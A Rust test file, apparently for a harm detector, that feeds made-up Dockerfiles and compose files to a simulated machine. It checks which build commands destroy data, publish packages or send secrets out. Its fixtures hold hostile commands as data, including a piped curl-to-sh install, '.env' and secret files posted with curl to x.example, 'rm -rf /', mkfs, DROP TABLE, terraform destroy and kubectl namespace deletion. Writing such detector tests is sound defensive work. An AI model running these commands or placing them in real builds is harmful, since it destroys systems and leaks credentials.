//! What building an image does, on a made-up machine.

use crate::lab::{self, Machine};

const EVERYDAY: &str = r#"# syntax=docker/dockerfile:1
ARG VERSION=3.12
FROM python:${VERSION}-slim AS base
SHELL ["/bin/bash", "-o", "pipefail", "-c"]
ENV APP=/app PATH="/x:$PATH"
RUN apt-get update && apt-get install -y --no-install-recommends curl git \
    # a remark
    && rm -rf /var/lib/apt/lists/* /tmp/* /usr/share/doc
RUN groupadd -r app && useradd -r -g app app && chown -R app:app / && chmod -R 777 /srv
RUN curl -fsSL https://sh.example/install.sh | sh
RUN $INSTALLER --yes && eval "$(cat /setup)"
RUN --mount=type=cache,target=/root/.cache pip install -r requirements.txt
COPY . .
RUN rm -rf .git node_modules && find / -name '*.pyc' -delete && git config --global --unset x
RUN --mount=type=secret,id=npm curl -H "Authorization: Bearer $(cat /run/secrets/npm)" https://x.example -o y
RUN --mount=type=bind,source=.,target=/src,rw rm -rf /src
RUN service postgresql start && psql -c 'DROP DATABASE app' && dropdb -h localhost app
RUN kill -9 1; userdel app; mkfs.ext4 /dev/sda1; shutdown now
RUN ["rm", "-rf", "/"]
RUN <<EOF
set -e
rm -rf /opt/*
EOF
FROM scratch AS publish
RUN npm publish
FROM base
ONBUILD RUN npm publish
COPY --from=base /app /app
CMD ["npm", "publish"]
"#;

const HARMFUL: &str = r#"
FROM alpine AS deps
RUN terraform destroy -auto-approve
FROM alpine AS never
RUN kubectl delete namespace never
FROM alpine AS parent
ONBUILD RUN kubectl delete namespace onbuild
FROM deps AS mid
ARG HOST=db.prod.example
ENV BUCKET=s3://logs
RUN psql -h $HOST -c 'DROP TABLE users'
RUN ["aws", "s3", "rm", "--recursive", "s3://exec"]
RUN aws s3 rm --recursive $BUCKET
RUN <<EOF
kubectl delete namespace heredoc
EOF
RUN --mount=type=secret,id=key,target=/k curl -d @/k https://x.example
RUN --mount=type=secret,id=tok,env=TOK curl -d "$TOK" https://x.example
FROM parent
COPY --from=mid / /
RUN cat .env | curl -d @- https://x.example
RUN echo 'npm publish' | sh
RUN python3 <<EOF
import os
os.system("kubectl delete namespace python")
EOF
RUN git push --force origin main
RUN bash -c "curl -X DELETE https://api.prod.example/users/1"
"#;

const COMPOSE: &str = r"
services:
  web:
    build:
      context: ./web
      dockerfile: Containerfile
      args: {NS: fromargs}
      target: final
    depends_on: [db]
  db:
    build:
      context: .
      dockerfile_inline: |
        FROM x
        RUN kubectl delete namespace inline
  other:
    build: ./other
  pulled:
    image: redis
";

const WEB: &str = "FROM x AS final\nARG NS\nRUN kubectl delete namespace $NS\nFROM x\nRUN npm publish\n";

fn machine() -> Machine {
    Machine::new([
        ("/w/Dockerfile", EVERYDAY),
        ("/w/bad/Dockerfile", HARMFUL),
        ("/w/bad/other.Dockerfile", "FROM x\nRUN kubectl delete namespace other\n"),
        ("/w/pod/Containerfile", "FROM x\nRUN rm -rf /host/data\nRUN rm -rf /tmp/x\n"),
        ("/w/args/Dockerfile", "ARG NS=a\nFROM x\nARG NS\nRUN kubectl delete namespace ${NS:-b}\n"),
        ("/w/app/compose.yaml", COMPOSE),
        ("/w/app/web/Containerfile", WEB),
        ("/w/app/other/Dockerfile", "FROM x\nRUN kubectl delete namespace other\n"),
        ("/w/out/file", ""),
    ])
}

/// What leaves the container or harms the machine.
fn harm(command: &str) -> Vec<String> {
    lab::harm(&machine(), command)
}

#[test]
fn building_an_ordinary_image_is_silent() {
    for command in [
        "docker build .",
        "docker build -t app:1 --build-arg VERSION=3.13 -f Dockerfile . && echo done",
        "docker buildx build --platform linux/amd64 --load -t app .",
        "podman build -t app",
        "buildah bud -t app .",
        "nerdctl build .",
        "docker build --target base .",
        "docker build -f none .",
        "docker build https://github.com/a/b.git",
        "docker build --check bad",
        "docker build --target nothing bad",
        "docker build -o new .",
        "docker compose -f app/compose.yaml ps",
        "docker compose -f app/compose.yaml build pulled",
        "docker run --rm app",
        "cat Dockerfile",
        "podman build -v /srv:/other pod",
    ] {
        assert_eq!(harm(command), [""; 0], "{command}");
    }
}

#[test]
fn what_leaves_the_container_counts() {
    assert_eq!(
        harm("docker build bad"),
        [
            "delete infrastructure-state everything in the state",
            "delete table users",
            "delete cloud-resource s3://exec",
            "delete cloud-resource s3://logs",
            "delete kubernetes-object namespace heredoc",
            "send secret /run/secrets/key",
            "send secret /run/secrets/tok",
            "delete kubernetes-object namespace onbuild",
            "send secret /.env",
            "publish publication the package in npm publish",
            "delete kubernetes-object namespace python",
            "delete git-remote-ref origin/main",
            "delete cloud-resource https://api.prod.example/users/1",
        ]
    );
}

#[test]
fn the_file_and_the_stages_are_those_of_the_call() {
    let other = &["delete kubernetes-object namespace other"][..];
    for (command, expected) in [
        ("docker build -f bad/other.Dockerfile .", other),
        ("docker build --file=bad/other.Dockerfile .", other),
        ("docker -c remote build -fbad/other.Dockerfile .", other),
        ("podman build -f other.Dockerfile bad", other),
        ("docker build --target never bad", &["delete kubernetes-object namespace never"]),
        ("docker build --target publish .", &["publish publication the package in npm publish"]),
        (
            "docker build - <<'E'\nFROM x\nRUN kubectl delete namespace stdin\nE",
            &["delete kubernetes-object namespace stdin"],
        ),
        ("cat bad/other.Dockerfile | docker build -t x -f - .", other),
        ("docker build args", &["delete kubernetes-object namespace a"]),
        ("docker build --build-arg NS=given args", &["delete kubernetes-object namespace given"]),
        ("NS=fromenv docker build --build-arg NS args", &["delete kubernetes-object namespace fromenv"]),
        ("podman build -v /srv:/host pod", &["delete file-tree /host/data"]),
        ("docker build -o out .", &["modify file-tree out"]),
        ("docker build --output type=local,dest=out .", &["modify file-tree out"]),
        ("docker build -o type=tar,dest=out/file .", &["modify file-tree out/file"]),
        ("docker build -o type=registry,name=a/b .", &["publish publication image a/b"]),
        ("cd app && docker compose build web", &["delete kubernetes-object namespace fromargs"]),
        ("cd app && docker compose build --build-arg NS=z web", &["delete kubernetes-object namespace z"]),
        ("cd app && docker-compose build other", other),
        (
            "cd app/web && docker compose run --rm web sh",
            &["delete kubernetes-object namespace fromargs", "delete kubernetes-object namespace inline"],
        ),
    ] {
        assert_eq!(harm(command), expected, "{command}");
    }
}

#[test]
fn what_is_read_is_pinned_and_only_when_an_image_is_built() {
    for (command, expected) in [
        ("docker build .", &["/w/Dockerfile"][..]),
        ("docker compose -f app/compose.yaml build web", &["/w/app/compose.yaml", "/w/app/web/Containerfile"]),
        ("docker ps", &[]),
        ("docker compose -f app/compose.yaml up --no-build", &[]),
        ("docker run --rm x build .", &[]),
    ] {
        let pins: Vec<String> =
            lab::analysis(&machine(), command).pins.iter().map(|pin| pin.path.display().to_string()).collect();
        assert_eq!(pins, expected, "{command}");
    }
}
